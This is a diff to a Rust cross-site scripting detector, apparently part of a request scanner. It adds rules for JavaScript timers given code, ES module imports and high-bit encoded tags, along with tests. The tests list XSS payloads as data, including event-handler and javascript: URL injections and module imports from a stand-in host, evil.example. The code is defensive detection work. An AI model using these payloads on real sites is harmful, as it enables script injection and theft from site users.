@@ -16,8 +16,8 @@
 //! only Medium in a JSON text field, where rich text and e-mail HTML travel; what would run in it
 //! (a handler, a script URL) is a rule of its own.
 
-use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, word_before};
-use super::{is_json_text, Check, Family, Hit, Rules, Subject, Trigger};
+use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, starts_word, word_before};
+use super::{is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
 use crate::finding::Severity::{Critical, High, Medium};
 
 /// Gate for `<`: a tag, end tag, comment or declaration starts (`a < b` and `<3` do not).
@@ -41,7 +41,7 @@ fn data_url(b: &[u8], _s: usize, e: usize) -> bool {
 /// JavaScript functions whose call is the point of a payload. Sorted.
 const JS_CALLS: &[&str] = &[
     "alert", "atob", "btoa", "confirm", "eval", "execscript", "expression", "fetch", "import", "open", "print",
-    "prompt", "setinterval", "settimeout", "url", "write", "writeln",
+    "prompt", "setimmediate", "setinterval", "settimeout", "url", "write", "writeln",
 ];
 
 /// Gate for `(` and a backquote: the word before is a JavaScript sink (`alert(`, ``confirm`1` ``).
@@ -79,8 +79,15 @@ fn then_colon(b: &[u8], _s: usize, e: usize) -> bool {
 /// script tag, a cookie set through `http-equiv`) is there; anywhere else High.
 const EMBEDDED: &str = "embedded content element";
 
+/// Gate for `import`: an ES module import clause (`import {a} from`, `import * as m from`).
+fn import_clause(b: &[u8], s: usize, e: usize) -> bool {
+    starts_word(b, s, e) && matches!(b.get(skip_space(b, e)), Some(b'{' | b'*'))
+}
+
 pub(crate) struct Xss {
     rules: Rules,
+    /// Script that is an injection outside a JSON text field, where code samples do not travel.
+    strict_rules: Rules,
 }
 
 /// Event handler names are `on` + a DOM event; a short list of prefixes keeps `one=`/`only=` out.
@@ -128,7 +135,19 @@ impl Xss {
             (quote_handler_weak.as_str(), Medium, 0.7, "event handler name after a quote"),
             (r"\b(?:alert|prompt|confirm|eval|btoa|atob)\s*\(", Medium, 0.6, "script call"),
         ];
-        Ok(Xss { rules: Rules::new(Family::Xss, &table)? })
+        // A string-evaluating timer given code, and ES module imports: what a page's script
+        // does, never what a URL, header, form or XML value holds; in a JSON text field they are
+        // a code sample (and fractions there are recipes).
+        let strict = [
+            (r#"\b(?:settimeout|setinterval|setimmediate|execscript)\s*\(\s*(?:["'`]|[a-z_$][\w$.]*\s*(?:\(|,\s*\d))"#, High, 0.7, "script timer given code"),
+            (r#"\bimport\s*(?:\{[^}]*\}|\*\s*as\s+[a-z_$][\w$]*)\s*from\s*["'`]|\bimport\s*\(\s*["'`]"#, High, 0.7, "JavaScript module import"),
+            // US-ASCII `<tag>` with the high bit set (`¼` `¾` are 0xBC 0xBE), which 7-bit
+            // decoders turn back into markup; prose has these fractions apart (`¼ cup`), not
+            // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
+            // Latin-1 letter, so only the characters themselves count.)
+            ("\u{bc}/?[a-z][a-z0-9]*[^\u{bc}\u{be}<>]{0,100}\u{be}", High, 0.75, "US-ASCII encoded tag"),
+        ];
+        Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
 }
 
@@ -209,16 +228,18 @@ impl Check for Xss {
             lit("![]"),
             lit("+[]"),
             lit("[]["),
+            gated("import", import_clause),
+            lit("\u{bc}"),
         ];
         T
     }
 
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
-        let hit = self.rules.best_either(s.text, script_fold(s.text).as_deref())?;
-        if hit.detail == EMBEDDED && is_json_text(s) {
-            return Some(hit.at_most(Medium, 0.6));
+        let hit = self.rules.best_either(s.text, script_fold(s.text).as_deref());
+        if is_json_text(s) {
+            return hit.map(|h| if h.detail == EMBEDDED { h.at_most(Medium, 0.6) } else { h });
         }
-        Some(hit)
+        stronger(hit, self.strict_rules.best(s.text))
     }
 }
 
@@ -239,6 +260,38 @@ mod tests {
         }
         for v in ["<svg onload=alert(1)>", "<iframe src=\"javascript:alert(1)\">", "<svg><base href=//evil.example/>", "<iframe srcdoc=\"<script>x</script>\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"] {
             assert!(flags_in_json("attack.xss", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn script_timers_and_module_imports_outside_json_text() {
+        use crate::fields::Part;
+        for v in [
+            "setInterval(payload, 10)",
+            "setTimeout('document.location=1', 0)",
+            "setTimeout(poll(), 100)",
+            "import {readFile} from 'fs'",
+            "import * as m from \"//evil.example/m.js\"",
+            "import('//evil.example/x.js')",
+            "¼b¾bold¼/b¾",
+            "x%C2%BC/title%C2%BE",
+            "\\u00bcp class=x\\u00be",
+        ] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+            assert!(!flags_in_json("attack.xss", v), "{v} as a code sample in a JSON text field");
+        }
+        for v in [
+            "set the interval (in seconds)",
+            "setTimeout is a function",
+            "import the data from the spreadsheet",
+            "important {notes} from 'Bob'",
+            "reimport {a} from 'b'",
+            "import duties from 'France'",
+            "add ¼ cup flour and ¾ cup sugar",
+            "1¼ hours, ¾ done",
+        ] {
+            assert!(!flags("attack.xss", v), "{v}");
         }
     }
 
